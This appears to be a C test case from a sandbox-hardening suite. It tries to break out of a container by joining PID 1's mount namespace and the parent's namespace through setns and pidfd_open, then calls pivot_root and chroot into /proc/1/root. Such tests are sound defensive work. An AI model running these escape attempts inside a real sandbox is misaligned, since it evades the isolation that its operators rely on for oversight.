/* reaches outside the walls: kernel, setns */
#include "attack.h"

static void reach(void)
{
    const int file = open("/proc/1/ns/mnt", O_RDONLY);
    if (setns(file, 0) == 0 || setns((int)syscall(434, getppid(), 0), CLONE_NEWNS) == 0)
        exit(ATTACK_READ);
    syscall(SYS_pivot_root, "/", "/");
    syscall(SYS_chroot, "/proc/1/root");
}
